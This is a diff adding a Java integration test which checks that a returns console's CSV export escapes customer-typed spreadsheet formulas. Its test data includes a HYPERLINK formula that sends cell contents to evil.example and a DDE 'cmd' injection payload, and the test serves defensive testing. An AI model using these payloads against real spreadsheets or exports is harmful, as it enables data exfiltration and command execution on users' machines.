@@ -206,6 +206,33 @@ class ReturnsConsoleIT {
                 .contentType("application/problem+json");
     }
 
+    /** Issue 8.3: what customers type must not run as a formula in the spreadsheet staff open. */
+    @Test
+    void exportShowsFormulasTypedByCustomersAsText() throws Exception {
+        String number = "FORMULA-" + run;
+        String body = """
+                [{"externalId":"%1$s","orderNumber":"%1$s","channel":"OWN_SITE",
+                  "customerName":"=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")",
+                  "customerEmail":"%2$s","orderedAt":"%3$s","shippedAt":"%3$s","deliveredAt":"%3$s",
+                  "lines":[{"lineNo":1,"sku":"KNIT-%4$s-S","quantity":1,"unitPriceMinor":6000}]}]
+                """.formatted(number, email(number), java.time.Instant.now().minusSeconds(86400), run);
+        given().auth().oauth2(TestTokens.token("it-manager", "/shops/" + SHOP + "/manager")).contentType("application/json")
+                .body(body).put("/v1/shops/" + SHOP + "/integration/orders").then().statusCode(200)
+                .body("rejected", equalTo(0));
+        submit(number, "PREPAID_LABEL", """
+                {"orderLineId":LINE,"quantity":1,"reasonCode":"OTHER","comment":"@SUM(1+1)*cmd|'/C calc'!A0",
+                 "resolution":"REFUND","refundMethod":"STORE_CREDIT"}""");
+        for (String charset : List.of("UTF-8", "Shift_JIS")) {
+            byte[] csv = staff("sakura-analyst", "analyst").get(STAFF + "/export?q=" + number + "&charset=" + charset)
+                    .then().statusCode(200).extract().asByteArray();
+            CSVRecord row = records(csv, Charset.forName(charset.equals("UTF-8") ? "UTF-8" : "windows-31j")).get(0);
+            assertThat(row.get("customer_name")).as(charset)
+                    .isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+            assertThat(row.get("customer_comment")).as(charset).isEqualTo("'@SUM(1+1)*cmd|'/C calc'!A0");
+            assertThat(row.get("order_number")).as(charset).isEqualTo(number);
+        }
+    }
+
     @Test
     void notesAreWrittenByProcessorsReadByStaffAndAudited() {
         String number = "NOTE-" + run;
